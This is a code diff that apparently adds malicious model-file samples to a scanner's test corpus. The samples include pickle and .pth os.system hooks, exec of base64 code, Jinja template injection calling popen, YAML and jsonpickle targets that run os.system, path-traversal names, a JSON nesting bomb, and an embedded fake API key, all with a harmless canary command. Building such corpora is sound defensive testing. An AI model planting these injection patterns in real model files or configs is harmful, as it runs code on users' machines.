@@ -288,6 +288,72 @@ def _texts(shell: str) -> dict[str, bytes]:
     }
 
 
+def _beside(shell: str) -> dict[str, bytes]:
+    """What lies beside weights, or in their metadata, and is obeyed by a loader, an editor or a server."""
+    packed = base64.b64encode(zlib.compress(_programs(shell)["protocol-2"])).decode()
+    note = "key: xai-" + "aB3dE5gH7jK9mN1p" * 5
+    layer = {"class_name": "TorchModuleWrapper", "config": {"module": ""}}
+    keras = {
+        "config.json": json.dumps(layer).encode(),
+        "metadata.json": b"{}",
+        "model.weights.h5": b"\x89HDF\r\n\x1a\n",
+    }
+    claims = b"\x01\0\x10\0\0\0\0\0\x01\x01\0\0\0\0\0\0" + struct.pack("<Q", 2**42)
+    node = _field(1, _field(2, b"\1") + _field(4, b"PyOp") + _field(7, b"ai.onnx.contrib"))
+    files: dict[str, str | bytes] = {
+        "startup.pth": "import os; os.system('x')\n",
+        "modeling.py": f"from os import system as s\ns({shell!r})\n",
+        "decoded.py": "import base64, builtins as b\nb.exec(base64.b64decode('eA=='))\n",
+        "behind.py": "def f(): ...\nf.__globals__['__builtins__']['eval']('1')\n",
+        "coded.py": "# coding: rot13\nvzcbeg bf\n",
+        "newer.py": "type X = int\nimport os\nos.system('x')\n",
+        "conftest.py": "import pytest\n",
+        "open me.lnk": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 90,
+        "weights.bin": b"MZqFpD='\n" + b"\0" * 90,
+        "rank0.engine": b"\x17\x23" * 400,
+        ".vscode/tasks.json": "{}",
+        "modules.json": json.dumps([{"path": "", "type": "subprocess.Popen"}]),
+        "model_index.json": json.dumps({"unet": ["../../evil", "Net"]}),
+        "config.json": json.dumps({"attn_implementation": "someone/kernels"}),
+        "nested.json": "[" * 100_000 + "]" * 100_000,
+        "auto/config.json": json.dumps({"auto_map": {"AutoModel": "../../evil.Net"}}),
+        "state.jsonpickle": json.dumps({"py/reduce": [{"py/function": "os.system"}]}),
+        "packed.json": json.dumps({"policy": packed}),
+        "hex.json": json.dumps({"policy": _programs(shell)["protocol-2"].hex()}),
+        "through.yaml": "_target_: torch.serialization.os.system\n",
+        "ruby.yaml": "a: !!ruby/object:Gem::Installer {}\n",
+        "include.yaml": "a: !include /etc/passwd\n",
+        "any-key.yaml": "init_fn: builtins.exec\n",
+        "config.toml": '[a]\n_target_ = "os.system"\n',
+        "requirements.txt": "svn+http://example.test/x\n",
+        "-r/requirements.txt": "-r ../../x\n",
+        "config.pbtxt": 'model_operations { op_library_filename: "ops.so" }\n',
+        "model.xml": '<net name="m"><layer library="/tmp/x.so"/></net>',
+        "style.xml": '<?xml-stylesheet href="x.xsl"?><PMML/>',
+        "prompt.txt": "{{ cycler.__init__.__globals__.os.popen('x') }}",
+        "namespace.jinja": "{% set ns = namespace() %}{% set ns.__class__ = 1 %}",
+        "note.gguf": gguf({"general.description": note}),
+        "behind.gguf": gguf({}) + b"\0" * 64 + b"x",
+        "note.safetensors": safetensors({"__metadata__": {"note": note}, "a": _TENSOR}, b"\0" * 4),
+        "leaving.safetensors": safetensors({"../../a": _TENSOR}, b"\0" * 4),
+        "note.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 600 + note.encode(),
+        "claims.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 600 + claims,
+        "program.keras": _zip(keras),
+        "claims.npz": _zip({"a.npy": _npy(np.zeros(4)).replace(b"(4,)", b"(9,)")}),
+        "python.onnx": b"\x08\x07" + _field(7, node),
+        "flex.tflite": b"\x1c\0\0\0TFL3" + b"\0" * 40 + b"FlexReadFile\0",
+        "print.pb": b"\x12\x07PrintV2\x2a\x20\x0a\x0doutput_stream\x12\x0f\x12\x0dfile:///tmp/x" + b"\0\xff" * 50,
+    }
+    return {name: data.encode() if isinstance(data, str) else data for name, data in files.items()}
+
+
+_TENSOR = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
+
+
+def _field(number: int, value: bytes) -> bytes:
+    return bytes([number << 3 | 2, len(value)]) + value
+
+
 def corpus(canary: str) -> dict[str, bytes]:
     """Every malicious file by a name that says what it is. Loading one that runs makes `canary`."""
     shell = f"touch {canary}"
@@ -313,6 +379,7 @@ def corpus(canary: str) -> dict[str, bytes]:
     )
     files |= {f"header/{name}.safetensors": data for name, data in _headers().items()}
     files |= {f"archive/{name}": data for name, data in _archives().items()}
+    files |= {f"beside/{name}": data for name, data in _beside(shell).items()}
     return files | {f"file/{name}": data for name, data in _texts(shell).items()}
 
 
